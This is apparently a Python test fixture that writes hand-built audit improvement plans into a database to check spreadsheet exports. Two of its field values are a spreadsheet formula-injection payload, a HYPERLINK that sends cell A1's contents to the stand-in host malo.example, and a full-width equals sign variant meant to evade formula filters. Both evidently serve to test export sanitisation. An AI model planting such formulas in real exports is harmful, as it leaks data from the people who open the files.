"""Plans written by hand into a real database, for the exports' tests: what each row must say is known in advance."""

from __future__ import annotations

from sqlalchemy import Engine

from carga.conexion import crear_motor
from carga.esquema import actualizar
from extractor.modelo import Origen
from tests.carga.fabrica import VACIA, fecha_dia, fecha_mes, hallazgo, plan
from tests.planmejora.test_calidad_consulta import ENERO, MARZO, guardar

HIPERVINCULO = '=HYPERLINK("http://malo.example/?d="&A1,"Ver anexo")'
ANCHO_COMPLETO = "＝1+1"


def base_de_ejemplo(url_db: str) -> str:
    """Calica (three actions of its current copy; an older copy had five) and Guavio (one action, from Excel).

    Calica's second action has a start date derived from its end and plazo (`inferida`), as normalization leaves it.
    """
    motor: Engine = crear_motor(url_db)
    actualizar(motor)
    anterior = plan("calica_enero.docx", "a" * 64, hallazgos=5)
    actual = plan(
        "calica.docx",
        "b" * 64,
        hallazgos=0,
        suscripcion=fecha_dia("2021-09-21"),
    )
    actual.hallazgos = [
        hallazgo(1, estado_accion="abierta", cumplimiento=True, efectividad=False),
        hallazgo(
            2,
            fecha_inicio=fecha_dia("2022-03-01", "inferida"),
            fecha_terminacion=fecha_dia("2022-09-30"),
            estado_accion="cerrada",
            observaciones=ANCHO_COMPLETO,
            origen=Origen(pagina=2, fila=2),
        ),
        hallazgo(
            3,
            descripcion=HIPERVINCULO,
            fecha_inicio=VACIA,
            fecha_terminacion=VACIA,
            estado_accion=None,
            cumplimiento=None,
            dependencia="Secretaría de Hacienda",
            origen=Origen(pagina=2, fila=3),
        ),
    ]
    guavio = plan(
        "guavio.xlsx",
        "c" * 64,
        entidad="GOBERNACIÓN DEL RÍO GUAVIO",
        proceso="Gestión Financiera",
        suscripcion=fecha_dia("2022-02-14"),
        hallazgos=0,
    )
    guavio.hallazgos = [
        hallazgo(
            1,
            fecha_inicio=fecha_dia("2022-03-15"),
            fecha_terminacion=fecha_mes("jun-22", 2022, 6),
            dependencia="Secretaría de Hacienda",
            origen=Origen(hoja="Plan 2022", fila=14),
        )
    ]
    guardar(motor, "calica_enero.docx", anterior, mtime_ns=ENERO)
    guardar(motor, "calica.docx", actual, mtime_ns=MARZO)
    guardar(motor, "guavio.xlsx", guavio)
    motor.dispose()
    return url_db
